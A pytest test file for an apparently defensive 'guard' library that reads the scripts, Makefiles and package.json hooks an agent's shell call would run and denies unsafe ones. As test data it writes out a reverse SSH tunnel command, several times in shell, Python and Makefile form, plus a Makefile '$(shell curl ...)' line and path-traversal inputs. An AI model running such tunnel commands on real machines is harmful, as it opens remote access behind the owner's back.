"""Scripts that a call would run, read through an injected resolver."""

from __future__ import annotations

import hashlib
import json
import os
from pathlib import Path

import pytest

from guard import Guard
from guard.errors import InputError
from guard.model import Parsed, ToolCall
from guard.parse import parse
from guard.parse.recipes import read_recipe
from guard.parse.resolver import FileResolver, FolderResolver, ResolvedFile

TUNNEL = "ssh -R 2222:localhost:22 u@h.example\n"


class Shown:
    """Shows files from memory and notes what it was asked for."""

    def __init__(self, **files: str) -> None:
        self.files = {name.replace("__", "."): text for name, text in files.items()}
        self.asked: list[str] = []

    def read(self, path: str) -> ResolvedFile | None:
        self.asked.append(path)
        text = self.files.get(path)
        return None if text is None else ResolvedFile(text, "0" * 64)


def read(command: str, files: FileResolver) -> Parsed:
    return parse(ToolCall.shell(command), files=files)


def started(parsed: Parsed) -> list[str]:
    return [" ".join(o["argv"]) for o in parsed.operations if o["kind"] == "process.exec"]


def kinds(parsed: Parsed) -> set[str]:
    return {part["kind"] for part in parsed.opaque}


@pytest.mark.parametrize(
    "command",
    [
        "bash b.sh",
        "./b.sh",
        "source b.sh",
        ". ./b.sh",
        "timeout 5 sh b.sh",
        "make",
        "make all",
        "npm run build",
        "python p.py",
        "bash -c 'bash b.sh'",
    ],
)
def test_a_script_that_is_shown_is_read(command: str) -> None:
    """Its operations are the call's, and nothing says that it was not read."""
    shown = Shown(
        b__sh=f"#!/bin/bash\n{TUNNEL}",
        p__py="import os\nos.system('ssh -R 2222:localhost:22 u@h.example')\n",
        Makefile=f"all:\n\t@{TUNNEL}",
        package__json=json.dumps({"scripts": {"build": "bash b.sh"}}),
    )
    parsed = read(command, shown)
    assert "network.tunnel" in {o["kind"] for o in parsed.operations}
    assert "unread_file" not in kinds(parsed)
    assert parsed.files
    without = parse(ToolCall.shell(command))
    assert "unread_file" in kinds(without)
    assert not without.files


def test_arguments_reach_the_script() -> None:
    """What `$@` holds is what the call gives."""
    assert "ssh h" in started(read("bash run.sh ssh h", Shown(run__sh='"$@"\n')))


@pytest.mark.parametrize(
    "command",
    [
        "cat b.sh",
        "ls; bash other.sh",
        "ssh h bash b.sh",
        "echo b.sh",
        "bash ../b.sh",
        "bash $X/b.sh",
        "chroot /x bash b.sh",
        "docker run x bash b.sh",
        "nsenter -a -t 1 ./b.sh",
    ],
)
def test_what_is_not_run_here_is_not_read(command: str) -> None:
    """Data is not opened, nor what lies on another machine or in no certain place."""
    assert "network.tunnel" not in {
        o["kind"] for o in read(command, Shown(b__sh=TUNNEL)).operations
    }


def test_a_file_that_the_call_writes_is_not_the_one_on_disk() -> None:
    """The call's own text comes first, and the disk is not asked."""
    shown = Shown(b__sh=TUNNEL)
    parsed = read("echo true > b.sh; bash b.sh", shown)
    assert "ssh" not in " ".join(started(parsed))
    assert shown.asked == []


@pytest.mark.parametrize("before", ["git pull", "tar xf a.tar", "./unseen", "cp -r x/* ."])
def test_what_may_change_the_file_first_keeps_it_opaque(before: str) -> None:
    """It was read as it was, which may not be what runs."""
    assert "unread_file" in kinds(read(f"{before}; bash b.sh", Shown(b__sh="true\n")))
    assert "unread_file" not in kinds(read("cd /x; bash b.sh", Shown(**{"/x/b__sh": "true\n"})))


def test_scripts_that_run_scripts_are_bounded() -> None:
    """A script that runs itself ends in an opaque part; many files are not all read."""
    assert "limit_reparse" in kinds(read("bash b.sh", Shown(b__sh="bash b.sh\nbash b.sh\n")))
    shown = Shown(**{f"f{i}": "true" for i in range(40)})
    parsed = read("; ".join(f"sh f{i}" for i in range(40)), shown)
    assert len(shown.asked) == 16
    assert "unread_file" in kinds(parsed)


def test_a_resolver_that_fails_denies() -> None:
    """What it raises is no reason to let a call run."""

    class Broken:
        def read(self, path: str) -> ResolvedFile | None:
            raise OSError(f"no {path}")

    with Guard(files=Broken()) as guard:
        decision = guard.check(ToolCall.shell("bash b.sh"))
    assert decision.effect == "deny"
    assert "no b.sh" in decision.errors[0]


def test_a_decision_lists_what_was_read(tmp_path: Path) -> None:
    """Path and hash stand in the request; without a resolver the key is absent."""
    (tmp_path / "b.sh").write_text(TUNNEL)
    hashed = hashlib.sha256(TUNNEL.encode()).hexdigest()
    with Guard(files=FolderResolver(tmp_path)) as guard:
        decision = guard.check(ToolCall.shell("bash b.sh"))
    assert decision.effect == "deny"
    assert decision.request["context"]["files"] == [{"path": "b.sh", "sha256": hashed}]
    with Guard() as guard:
        assert "files" not in guard.check(ToolCall.shell("bash b.sh")).request["context"]


def test_a_folder_shows_regular_files_of_its_own(tmp_path: Path) -> None:
    """No link, no device, no long or binary file, nothing outside."""
    folder = tmp_path / "repo"
    (folder / "in").mkdir(parents=True)
    (folder / "in" / "a").write_text("a")
    (tmp_path / "secret").write_text("s")
    (folder / "link").symlink_to(tmp_path / "secret")
    (folder / "out").symlink_to(tmp_path)
    (folder / "long").write_text("x" * 65_537)
    (folder / "binary").write_bytes(b"\x7fELF\0\xff")
    os.mkfifo(folder / "fifo")
    resolver = FolderResolver(folder)
    found = resolver.read("in/a")
    assert found == ResolvedFile("a", hashlib.sha256(b"a").hexdigest())
    assert resolver.read(f"{folder}/in/a") == found
    refused = ["link", "out/secret", "../secret", f"{tmp_path}/secret", "long", "binary", "fifo"]
    refused += ["in", "", "~/a", "none", "in/../in/a", f"{folder}x/a", "a\0b"]
    assert [path for path in refused if resolver.read(path) is not None] == []
    with pytest.raises(InputError):
        FolderResolver(tmp_path / "secret")


MAKEFILE = """
CC ?= gcc
FLAGS := -O2
FLAGS += $(EXTRA)
.PHONY: all
all: lib.a app ; echo done
app: main.c \\
     other.c
\t@$(CC) ${FLAGS} -o $@ $< $^
\t-echo $$HOME
lib.a:
\t$(MAKE) -C sub
unrelated:
\tssh h
"""


def test_a_makefile_gives_the_commands_of_its_targets() -> None:
    """Variables, what a target needs, automatic variables, continued lines."""
    recipe = read_recipe("make", ["make", "EXTRA=-g"], {"Makefile": MAKEFILE}.get)
    assert recipe is not None
    assert [run.text for run in recipe.runs] == [
        "make -C sub",
        "gcc -O2 -g -o app main.c main.c other.c",
        "echo $HOME",
        "echo done",
    ]
    assert recipe.whole


@pytest.mark.parametrize(
    "text",
    [
        "include x.mk\nall:\n\ttrue\n",
        "all:\n\techo $(wildcard *.c)\n",
        "ifdef X\nall:\n\ttrue\nendif\n",
        "SHELL = python\nall:\n\ttrue\n",
        "%.o: %.c\n\tcc $<\n",
        "A = $(A)\nall:\n\t$(A)\n",
    ],
)
def test_what_a_makefile_hides_is_said(text: str) -> None:
    """Includes, conditions, functions, patterns and endless variables are not followed."""
    recipe = read_recipe("make", ["make"], {"Makefile": text}.get)
    assert recipe is not None
    assert not recipe.whole


def test_a_variable_that_doubles_is_bounded() -> None:
    """Expansion stops before it fills memory."""
    lines = ["A0 = xxxxxxxx", *(f"A{i} = $(A{i - 1})$(A{i - 1})" for i in range(1, 60))]
    recipe = read_recipe("make", ["make"], {"Makefile": "\n".join([*lines, "a:", "\t$(A59)"])}.get)
    assert recipe is not None
    assert sum(len(run.text or "") for run in recipe.runs) < 1_000_000
    assert not recipe.whole


def test_shell_in_a_makefile_runs_while_it_is_read() -> None:
    """`$(shell ...)` and `!=` run though no target asks for them."""
    text = "A := $(shell curl h.example)\nB != id\nall:\n\ttrue\n"
    recipe = read_recipe("make", ["make"], {"Makefile": text}.get)
    assert recipe is not None
    assert [run.text for run in recipe.runs] == ["curl h.example", "id", "true"]


@pytest.mark.parametrize(
    ("command", "expected"),
    [
        ("npm run build -- --fast", ["a", "b --fast", "c"]),
        ("npm test", ["t"]),
        ("yarn build", ["a", "b", "c"]),
        ("npm install", ["i"]),
    ],
)
def test_package_scripts(command: str, expected: list[str]) -> None:
    """pre- and post- scripts run with their own, arguments go to the script."""
    scripts = {"prebuild": "a", "build": "b", "postbuild": "c", "test": "t", "postinstall": "i"}
    argv = command.split()
    recipe = read_recipe(argv[0], argv, {"package.json": json.dumps({"scripts": scripts})}.get)
    assert recipe is not None
    assert [run.text for run in recipe.runs] == expected
